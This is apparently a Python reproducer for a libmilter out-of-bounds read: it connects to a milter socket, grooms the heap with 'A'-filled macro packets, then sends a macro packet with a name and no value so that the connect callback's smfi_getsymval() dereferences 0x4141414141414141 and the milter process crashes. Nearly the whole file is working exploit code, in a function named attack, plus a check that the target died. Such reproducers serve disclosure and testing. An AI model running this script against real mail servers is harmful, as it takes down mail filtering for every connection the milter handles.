#!/usr/bin/env python3
"""Reproducer: libmilter (8.17.1.9, Debian 12) reads past an array on a
macro packet that has a name and no value.

libmilter splits an SMFIC_MACRO packet into a NULL-terminated array of
strings (dec_argv in libmilter/engine.c) and smfi_getsymval() walks it two
at a time, name then value (libmilter/smfi.c). With an odd number of
strings, a lookup of any other name steps over the terminating NULL and
reads the pointer after the array, then dereferences whatever was there:
the milter process dies (SIGSEGV), every connection with it. The defect
is in libmilter, not in the milter; any local user who can connect to
the milter socket can send such a packet. Hence the default unix socket
in a directory only the daemon and the MTA can reach.

This script fills a heap chunk with 'A's, has libmilter free it, then
sends the malformed packet, whose array reuses that chunk; the next
smfi_getsymval() (the milter's connect callback asks for {client_addr})
follows 0x4141414141414141.

Usage: libmilter-macro-crash.py SOCKET [PID]
  SOCKET  unix:/PATH or inet:PORT@HOST, as given to tlspolicy-milter -p
  PID     the milter's process id: exit 0 if it died, 1 if it survived
"""
import os
import socket
import struct
import sys
import time

SMFIC_OPTNEG, SMFIC_MACRO, SMFIC_CONNECT = b"O", b"D", b"C"


def connect(spec):
    if spec.startswith("unix:") or spec.startswith("local:"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(spec.split(":", 1)[1])
    elif spec.startswith("inet:"):
        port, _, host = spec[5:].partition("@")
        s = socket.create_connection((host or "127.0.0.1", int(port)))
    else:
        sys.exit("SOCKET must be unix:/PATH or inet:PORT@HOST")
    s.settimeout(5)
    return s


def send(s, cmd, data=b""):
    s.sendall(struct.pack(">I", len(data) + 1) + cmd + data)


def negotiate(s):
    # Protocol version 6, every action, every step.
    send(s, SMFIC_OPTNEG, struct.pack(">III", 6, 0x1FF, 0))
    head = s.recv(5)
    if len(head) < 5:
        sys.exit("no negotiation reply: is this a milter?")
    (length,) = struct.unpack(">I", head[:4])
    left = length - 1
    while left > 0:
        left -= len(s.recv(left))


def attack(s):
    # 1. A macro list for stage C whose buffer is 23 bytes of 'A' (small
    #    chunk), then 2. a valid list for the same stage: libmilter frees
    #    the first, and that 'A'-filled chunk goes back to the allocator.
    send(s, SMFIC_MACRO, b"C" + b"A" * 22 + b"\0")
    send(s, SMFIC_MACRO, b"C" + b"{x}\0y\0")
    # 3. One name, no value. The name is long, so that its packet buffer
    #    comes from another size class and the 2-pointer array gets the
    #    'A' chunk: the pointer past the array's NULL is 0x41414141...
    send(s, SMFIC_MACRO, b"C" + b"{" + b"n" * 40 + b"}\0")
    # 4. The connect callback's smfi_getsymval() walks into it.
    send(s, SMFIC_CONNECT, b"client.example\0" + b"4" + struct.pack(">H", 25)
         + b"192.0.2.1\0")
    try:
        return s.recv(64)
    except OSError:
        return b""


def alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    # A zombie is dead too (a parent that does not reap).
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def main(argv):
    if len(argv) not in (2, 3):
        print(__doc__.strip().splitlines()[-4], file=sys.stderr)
        return 2
    s = connect(argv[1])
    negotiate(s)
    reply = attack(s)
    s.close()
    print("reply to CONNECT:", reply[:16] if reply else "none (connection dropped)")
    if len(argv) == 3:
        time.sleep(0.5)
        if alive(int(argv[2])):
            print("milter still running")
            return 1
        print("milter died")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
